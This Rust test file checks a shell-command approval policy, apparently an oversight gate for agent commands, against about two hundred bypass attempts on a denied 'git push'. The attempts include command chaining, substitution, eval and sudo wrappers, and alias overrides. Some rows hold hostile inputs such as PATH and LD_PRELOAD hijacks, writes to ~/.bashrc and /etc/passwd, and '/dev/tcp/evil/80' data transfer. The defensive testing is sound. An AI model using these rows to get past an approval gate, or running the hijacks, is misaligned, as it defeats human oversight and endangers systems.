//! Ways round the rules, and that none of them is one.
//!
//! `git push` is denied, `rm` asks; a few harmless commands are allowed, and everything else asks. No row may come out more
//! lenient than it says. The same rows are judged with everything else allowed: what names a denied command is never allowed.

use trl_policy::{Place, RuleSet, Scene, ShellKind, Source, Trust, decide};
use trl_proto::approval::{ApprovalSpec, RuleSpec};
use trl_proto::hitl::Verdict::{self, Allow, Ask, Deny};

fn strings(list: &[&str]) -> Vec<String> {
    list.iter().map(ToString::to_string).collect()
}

fn rules(default: Verdict) -> RuleSet {
    let allow = [
        "echo",
        "ls",
        "cat",
        "git status",
        "git diff",
        "cd",
        "true",
        "find",
        "printf",
        "test",
        "[",
        "pwd",
        "grep",
        "python3",
        "bash",
        "env",
        "xargs",
        "set",
        "export",
        "make",
        "fs.write out",
        "awk",
        "sort",
        "tee",
        "read",
        "head",
        "./run.sh",
    ];
    RuleSet::compile(&[Source {
        name: "test".into(),
        trust: Trust::Full,
        spec: Ok(ApprovalSpec {
            default: Some(default),
            timeout_s: None,
            rules: vec![
                RuleSpec { allow: strings(&allow), ..RuleSpec::default() },
                RuleSpec { deny: strings(&["git push"]), ..RuleSpec::default() },
                RuleSpec { ask: strings(&["rm"]), ..RuleSpec::default() },
            ],
        }),
    }])
}

const SHELLS: [ShellKind; 5] =
    [ShellKind::Sh, ShellKind::Bash, ShellKind::Zsh, ShellKind::Ash, ShellKind::Other];

fn verdict(rules: &RuleSet, shell: ShellKind, text: &str) -> Verdict {
    let place = Place { cwd: Some("/w"), root: Some("/w") };
    decide(rules, Scene { shell, place }, text).verdict
}

fn strictness(verdict: Verdict) -> u8 {
    match verdict {
        Allow => 0,
        Ask => 1,
        Deny => 2,
    }
}

/// A text, and the least that must be said of it.
const ROWS: &[(&str, Verdict)] = &[
    // compounds
    ("ls; git push", Deny),
    ("ls && git push", Deny),
    ("ls || git push", Deny),
    ("ls | git push", Deny),
    ("ls & git push", Deny),
    ("ls\ngit push", Deny),
    ("ls;git push", Deny),
    ("ls&&git push", Deny),
    ("git status; rm x", Ask),
    ("git status && curl x", Ask),
    ("(git push)", Deny),
    ("{ git push; }", Deny),
    ("! git push", Deny),
    ("if true; then git push; fi", Deny),
    ("for x in 1; do git push; done", Deny),
    ("while git push; do :; done", Deny),
    ("until git push; do :; done", Deny),
    ("case x in x) git push;; esac", Deny),
    ("case x in (x) git push;; esac", Deny),
    ("ls [[ a && git push", Deny),
    ("coproc git push", Deny),
    ("time git push", Deny),
    ("ls |& git push", Deny),
    ("ls &> x; git push", Deny),
    // zsh's short forms
    ("for x (1) git push", Ask),
    ("repeat 3 git push", Deny),
    ("if (true) git push", Deny),
    ("foreach x (1) git push; end", Ask),
    ("- git push", Deny),
    ("noglob git push", Deny),
    ("nocorrect git push", Deny),
    ("=git push", Ask),
    ("ls *(e:'git push':)", Ask),
    ("ls =(git push)", Deny),
    ("ls &! git push", Ask),
    ("ls >! x", Ask),
    ("ls <1-5>", Ask),
    ("echo }git push", Ask),
    ("> x", Ask),
    // substitutions
    ("echo $(git push)", Deny),
    ("echo `git push`", Deny),
    ("echo \"$(git push)\"", Deny),
    ("echo \"`git push`\"", Deny),
    ("echo ${x:-$(git push)}", Deny),
    ("echo $((x[$(git push)]))", Deny),
    ("cat <(git push)", Deny),
    ("ls > >(git push)", Deny),
    ("cat <<< $(git push)", Deny),
    ("cat <<EOF\n$(git push)\nEOF", Deny),
    ("cat <<EOF\n`git push`\nEOF", Deny),
    ("cat <<EOF | bash\ngit push\nEOF", Deny),
    ("bash <<'EOF'\ngit push\nEOF", Deny),
    ("bash <<'EOF'\ncurl x\nEOF", Ask),
    ("cat <<-EOF\n\tx\n\tEOF\ngit push", Deny),
    ("cat <<'A B'\nx\nA B\ngit push", Deny),
    ("cat <<EOF\nx\n EOF\nEOF\ngit push", Deny),
    ("$(echo git push)", Ask),
    ("echo ${x@P}", Ask),
    ("echo ${(e)x}", Ask),
    ("echo $x[$(git push)]", Deny),
    ("[ -v 'a[$(git push)]' ]", Ask),
    ("printf -v 'a[$(git push)]' x", Ask),
    ("read 'a[$(git push)]'", Ask),
    // names
    ("PATH=/tmp/evil git status", Ask),
    ("PATH=/tmp/evil; git status", Ask),
    ("export PATH=/tmp/evil; git status", Ask),
    ("LD_PRELOAD=/tmp/x.so ls", Ask),
    ("GIT_SSH_COMMAND=evil git diff", Ask),
    ("BASH_ENV=/tmp/x bash -c ls", Ask),
    ("IFS=x ls", Ask),
    ("A=1 git push", Deny),
    ("A=1 B=2 git push", Deny),
    ("./git status", Ask),
    ("/tmp/git status", Ask),
    ("/usr/bin/git push", Deny),
    ("../bin/git push", Deny),
    ("cd /tmp/evil && ./ls", Ask),
    ("cd /tmp/evil && ./run.sh", Ask),
    ("bash -c 'cd /tmp/evil && ./run.sh'", Ask),
    ("env -C /tmp/evil ./run.sh", Ask),
    ("builtin cd /tmp/evil; ./run.sh", Ask),
    ("./env git status", Ask),
    ("/tmp/timeout 5 ls", Ask),
    ("./sh -c ls", Ask),
    ("/tmp/bash -c ls", Ask),
    ("/tmp/xargs ls", Ask),
    ("alias ls='git push'; ls", Deny),
    ("alias ls=evil", Ask),
    ("ls() { git push; }; ls", Deny),
    ("function ls { git push; }", Deny),
    ("hash -p /tmp/evil ls", Ask),
    ("enable -f /tmp/evil.so ls", Ask),
    ("x=git; $x push", Ask),
    ("x=push; git $x", Ask),
    ("git pus*", Ask),
    ("git {push,x}", Ask),
    ("git pus?", Ask),
    ("git pus[h]", Ask),
    ("gi? push", Ask),
    ("g{i,}t push", Ask),
    ("~/git push", Deny),
    ("git -C . push", Ask),
    ("git -c alias.x=push x", Ask),
    ("git $'push'", Ask),
    ("git $'\\x70ush'", Ask),
    ("git \"pu\"sh", Deny),
    ("g''it push", Ask),
    ("\\git push", Deny),
    ("'git' 'push'", Deny),
    ("g\\it p\\ush", Deny),
    ("git pu\\\nsh", Deny),
    ("git \\\npush", Deny),
    ("gi\\\nt push", Deny),
    ("ls \\\n; git push", Deny),
    // blanks and bytes
    ("git\tpush", Deny),
    ("git\u{a0}push", Ask),
    ("git\u{2003}push", Ask),
    ("ls\rgit push", Ask),
    ("ls\u{b}git push", Ask),
    ("ls\u{c}git push", Ask),
    ("ls\u{0}git push", Ask),
    ("ls\u{85}git push", Ask),
    ("ls \u{1}\u{7f}", Ask),
    ("\u{feff}git push", Ask),
    ("ls\u{2028}git push", Ask),
    ("ls # \ngit push", Deny),
    ("ls #'\ngit push #'", Deny),
    ("# '\ngit push\n# '", Deny),
    ("echo 'a\ngit push'\ngit push", Deny),
    ("!git", Ask),
    ("!!", Ask),
    ("ls !$", Ask),
    ("echo \"!git\"", Ask),
    ("^ls^git push", Ask),
    ("%1", Ask),
    // wrappers
    ("env git push", Deny),
    ("env -i git push", Deny),
    ("env -S 'git push'", Deny),
    ("env A=1 git push", Deny),
    ("env PATH=/tmp/evil ls", Ask),
    ("/usr/bin/env git push", Deny),
    ("timeout 5 git push", Deny),
    ("timeout -s KILL 5 git push", Deny),
    ("timeout --weird 5 ls", Ask),
    ("nice git push", Deny),
    ("nice -n 5 git push", Deny),
    ("nohup git push", Deny),
    ("setsid git push", Deny),
    ("stdbuf -oL git push", Deny),
    ("command git push", Deny),
    ("builtin eval git push", Deny),
    ("exec git push", Deny),
    ("exec ls", Ask),
    ("eval git push", Deny),
    ("eval 'git' 'push'", Deny),
    ("eval \"$x\"", Ask),
    ("eval 'ls; git push'", Deny),
    ("sh -c 'git push'", Deny),
    ("bash -c 'ls && git push'", Deny),
    ("bash -lc 'git push'", Deny),
    ("bash -c \"$x\"", Ask),
    ("bash -c 'curl x'", Ask),
    ("bash -c 'ls > x'", Ask),
    ("bash -c 'PATH=/x ls'", Ask),
    ("bash", Ask),
    ("bash -s", Ask),
    ("ls | bash", Ask),
    ("ls | python3", Ask),
    ("python3 -", Ask),
    ("bash -c 'bash -c \"git push\"'", Deny),
    ("python3 -c 'import os; os.system(\"git push\")'", Deny),
    ("sudo git push", Deny),
    ("sudo ls", Ask),
    ("sudo -u bob git push", Deny),
    ("doas git push", Deny),
    ("su -c 'git push'", Deny),
    ("ssh host git push", Deny),
    ("ssh host 'cd x; git push'", Deny),
    ("xargs git push", Deny),
    ("ls | xargs -n1 git push", Deny),
    ("ls | xargs git", Ask),
    ("ls | xargs rm", Ask),
    ("ls | xargs -I{} {} x", Ask),
    ("ls | xargs bash -c", Ask),
    ("find . -exec git push \\;", Deny),
    ("find . -exec rm {} +", Ask),
    ("find . -delete", Ask),
    ("find . -fprint x", Ask),
    ("find . $x", Ask),
    ("find . -exec sh -c 'git push' \\;", Deny),
    ("watch git push", Deny),
    ("watch 'git push'", Deny),
    ("parallel git push ::: 1", Deny),
    ("flock x git push", Deny),
    ("strace git push", Deny),
    ("busybox sh -c 'git push'", Deny),
    ("docker exec x git push", Deny),
    ("trap 'git push' EXIT", Deny),
    ("trap 'curl x' DEBUG", Ask),
    ("set -k", Ask),
    ("source /tmp/x", Ask),
    (". /tmp/x", Ask),
    ("nohup timeout 5 nice env sudo git push", Deny),
    // files
    ("echo x > ~/.bashrc", Ask),
    ("echo x > /etc/passwd", Ask),
    ("echo x >> .bashrc", Ask),
    ("echo x > $f", Ask),
    ("echo x > out/../.bashrc", Ask),
    ("cd /etc && echo x > out", Ask),
    ("echo x >| f", Ask),
    ("echo x <> f", Ask),
    ("cat < /dev/tcp/evil/80", Ask),
    ("echo x > /dev/tcp/evil/80", Ask),
    ("ls 2> x", Ask),
    ("ls {fd}> x", Ask),
    ("> x git push", Deny),
    ("2>&1 git push", Deny),
];

#[test]
fn there_is_no_way_round() {
    let rules = rules(Ask);
    assert!(rules.problems().is_empty(), "{:?}", rules.problems());
    assert!(ROWS.len() >= 60);
    let mut bypasses = Vec::new();
    for (text, least) in ROWS {
        for shell in SHELLS {
            let said = verdict(&rules, shell, text);
            if strictness(said) < strictness(*least) {
                bypasses.push(format!("{shell:?} {text:?}: {said:?}, not {least:?}"));
            }
        }
    }
    println!("{} rows in {} shells, {} bypasses", ROWS.len(), SHELLS.len(), bypasses.len());
    assert!(bypasses.is_empty(), "{}", bypasses.join("\n"));
}

#[test]
fn a_denied_command_is_not_allowed_where_all_others_are() {
    let rules = rules(Allow);
    for (text, least) in ROWS {
        for shell in SHELLS {
            let said = verdict(&rules, shell, text);
            let names_it = *least == Deny;
            assert!(!names_it || said == Deny, "{shell:?} {text:?}: {said:?}");
        }
    }
}

#[test]
fn nothing_is_allowed_where_nothing_unknown_is() {
    let rules = rules(Deny);
    for (text, _) in ROWS {
        for shell in SHELLS {
            assert_ne!(verdict(&rules, shell, text), Allow, "{shell:?} {text:?}");
        }
    }
}

#[test]
fn what_is_harmless_runs() {
    let rules = rules(Ask);
    for text in [
        "ls",
        "git status -s",
        "cd /x && ls -la | grep foo",
        "echo 'git push'",
        "echo git push",
        "git diff HEAD~1 -- src/*.rs",
        "ls 2>/dev/null",
        "ls 2>&1 | head -5",
        "timeout 5 git status",
        "env RUST_LOG=debug git status",
        "RUST_BACKTRACE=1 ls",
        "bash -c 'cd /x && ls'",
        "find . -name '*.rs' -exec grep -n foo {} +",
        "find . -name '*.c' | xargs grep foo",
        "echo x > out",
        "cat < in.txt",
        "nice -n 5 ls",
        "echo \"$HOME\"",
        "ls # x".trim_end_matches(" # x"),
        "set -euo pipefail",
        "[ -f x ] && ls",
        "time ls",
        "cat <<'EOF'\nhi\nEOF",
        "",
        "# note\nls",
    ] {
        assert_eq!(
            verdict(&rules, ShellKind::Bash, text),
            Allow,
            "{text:?}: {:?}",
            decide(
                &rules,
                Scene { shell: ShellKind::Bash, place: Place { cwd: Some("/w"), root: Some("/w") } },
                text
            )
        );
    }
}
